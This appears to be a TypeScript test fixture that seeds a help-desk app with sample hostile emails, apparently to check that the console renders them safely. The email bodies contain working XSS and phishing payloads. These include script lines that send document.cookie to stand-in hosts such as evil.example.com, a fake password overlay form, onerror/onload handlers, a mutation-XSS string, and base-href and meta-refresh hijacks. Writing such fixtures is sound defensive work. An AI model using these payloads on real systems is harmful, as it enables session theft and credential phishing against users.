import { wrap } from '../mail/body.ts'
import { choiceId, FIELD } from '../account/ticket-fields.ts'
import { daysAgo, type Told } from './tell.ts'

/**
 * Mail that wants something from whoever opens it: scripts, pixels, forms, pages that lie over the page. Help desks get
 * these every week, so the sample has some; all hosts are reserved names, and nothing here works on a careful console.
 */
export const hostileMail: Told[] = [
  {
    contact: 'no-name@example.org',
    category: 'general',
    subject: 'Your mailbox is almost full <script>alert(1)</script>',
    tags: ['spam'],
    turns: [
      {
        who: 'contact',
        when: daysAgo(1, '03:12'),
        priority: 'none',
        body: wrap(
          '<style>body{display:none}.app,main,header{display:none!important}a{color:red}</style>' +
            '<div style="position:fixed;inset:0;z-index:99999;background:#fff;padding:40px"><h1>Session expired</h1>' +
            '<form action="https://login.example.com/collect" method="post"><label>Password <input type="password" name="password"></label>' +
            '<button type="submit" onclick="steal()">Sign in again</button></form></div>' +
            '<script>document.location="https://login.example.com/?c="+document.cookie</script>' +
            '<img src="https://pixel.example.com/open.gif?u=support" width="1" height="1" alt="">' +
            '<p>Your mailbox has reached 98 % of its size. Sign in to keep receiving mail.</p>',
          'Session expired\n\nPassword\n\nSign in again\n\nYour mailbox has reached 98 % of its size. Sign in to keep receiving mail.',
        ),
      },
    ],
  },
  {
    contact: 'Accounts',
    category: 'billing',
    subject: 'Overdue: statement of account attached',
    tags: ['spam'],
    turns: [
      {
        who: 'contact',
        when: daysAgo(2, '11:48'),
        body: wrap(
          '<p>Dear customer,</p><p>our records show an open amount of <b>3,480.00</b>. ' +
            '<a href="javascript:fetch(\'https://evil.example.com/\'+document.cookie)">Open the statement</a> or ' +
            '<a href="https://pay.example.com/harbour" target="_top">pay now on https://pedal-leasing.example.net</a>.</p>' +
            '<img src="x" onerror="alert(document.domain)"><svg onload="alert(2)"><circle r="4"/></svg>' +
            '<iframe srcdoc="&lt;script&gt;parent.postMessage(1,\'*\')&lt;/script&gt;"></iframe>' +
            '<object data="https://evil.example.com/a.swf"></object><embed src="https://evil.example.com/b.svg">',
          'Dear customer,\n\nour records show an open amount of **3,480.00**. [Open the statement](javascript:void) or [pay now on https://pedal-leasing.example.net](https://pay.example.com/harbour).',
        ),
      },
      {
        who: 'fatima',
        when: daysAgo(2, '12:20'),
        kind: 'private',
        say: 'Not from Pedal Leasing: their mails never have links. I have called them, they know about it. Nobody clicks.',
        assignee: 'fatima',
      },
      { who: 'fatima', when: daysAgo(2, '12:21'), status: 'closed', fields: { [FIELD.refundAmount]: 0 } },
    ],
  },
  {
    contact: 'Ivo Novak',
    category: 'workshop',
    subject: 'Sketch of my bottle cage idea',
    fields: {
      [FIELD.product]: choiceId(FIELD.product, 'Accessories'),
      [FIELD.serviceType]: choiceId(FIELD.serviceType, 'Custom build'),
    },
    turns: [
      {
        who: 'contact',
        when: daysAgo(3, '15:31'),
        body: wrap(
          '<base href="https://evil.example.com/"><meta http-equiv="refresh" content="0;url=https://evil.example.com/">' +
            '<link rel="stylesheet" href="https://evil.example.com/style.css">' +
            '<p>Hi, I made my sketch with a web tool and pasted it here. Could the workshop print this cage?</p>' +
            '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>' +
            '<svg width="120" height="60"><a xlink:href="javascript:alert(3)"><rect width="120" height="60" fill="#eee"/><text x="10" y="35">cage</text></a>' +
            '<foreignObject><body onload="alert(4)"></body></foreignObject></svg>' +
            '<div style="background:url(https://pixel.example.com/bg.png);width:300px;height:4px"></div><p id="main" name="body">Ivo</p>',
          'Hi, I made my sketch with a web tool and pasted it here. Could the workshop print this cage?\n\ncage\n\nIvo',
        ),
      },
      {
        who: 'beatriz',
        when: daysAgo(3, '16:40'),
        say: 'Hi Ivo,\n\nnice idea. Send us the measures and we try it.\n\nBeatriz',
        status: 'inProgress',
        assignee: 'beatriz',
        minutes: 6,
        due: 3,
      },
    ],
  },
]
